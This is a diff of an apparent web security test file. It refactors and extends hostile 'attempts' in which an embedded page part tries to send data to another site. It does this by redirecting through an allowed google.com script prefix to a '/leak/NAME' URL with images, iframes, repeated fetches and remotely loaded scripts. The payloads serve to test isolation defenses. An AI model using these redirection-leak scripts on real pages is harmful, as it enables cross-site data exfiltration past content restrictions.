@@ -1,9 +1,18 @@
 """Attempts to let a part of a page, rather than the window, speak to another site."""
 
-from tests.web.hostile.attempt import Attempt, each, redirect
+from tests.web.hostile.attempt import ANYBODY, Attempt, each, redirect
 from tests.web.internet import Answer
 
 SCRIPT = "text/javascript"
+OPEN_LINE = "<script src=https://www.google.com/recaptcha/x></script>"
+"""After it a line is open to a host of which only a part is allowed."""
+ELSEWHERE = redirect("https://www.google.com/leak/NAME")
+SENT_ON = {
+    "image-by-redirection": f"<script>onload = () => add('img', {{src: '{ELSEWHERE}'}})</script>",
+    "fetch-by-redirection": "<script>onload = () => { for (let n = 0; n < 5; n++) setTimeout(() => "
+    f"fetch('{ELSEWHERE}', {{mode: 'no-cors'}}).catch(() => 0), n * 20) }}</script>",
+    "frame-by-redirection": f"<script>onload = () => add('iframe', {{src: '{ELSEWHERE}'}})</script>",
+}
 BY_ITSELF = each(
     "part",
     {
@@ -100,16 +109,18 @@ OTHERS = [
         files={"/service.js": Answer("importScripts('EVIL')", media=SCRIPT)},
         wait_ms=600,
     ),
-    *each(
-        "part",
-        {
-            "image-by-redirection-over-an-open-line": "<script src=https://www.google.com/recaptcha/x></script>"
-            f"<script>onload = () => add('img', {{src: '{redirect('https://www.google.com/leak/NAME')}'}})</script>",
-            "fetch-by-redirection-over-an-open-line": "<script src=https://www.google.com/recaptcha/x></script>"
-            "<script>onload = () => { for (let n = 0; n < 5; n++) setTimeout(() => "
-            f"fetch('{redirect('https://www.google.com/leak/NAME')}', {{mode: 'no-cors'}}).catch(() => 0), n * 20) }}"
-            "</script>",
-        },
+    *each("part", {f"{name}-over-an-open-line": OPEN_LINE + page for name, page in SENT_ON.items()}),
+    Attempt(
+        "part-answer-over-an-open-line",
+        f"{OPEN_LINE}<script>onload = () => gives(fetch('{redirect('https://www.google.com/other')}')"
+        ".then((r) => r.text()))</script>",
+        files={"/other": Answer("of another path", headers=ANYBODY)},
+    ),
+    Attempt(
+        "part-script-over-an-open-line",
+        f"{OPEN_LINE}<script>onload = () => add('script', {{src: '{redirect('https://www.google.com/other')}'}})"
+        "</script>",
+        files={"/other": Answer("leak('run')", media=SCRIPT)},
     ),
     Attempt(
         "part-style-by-redirection",
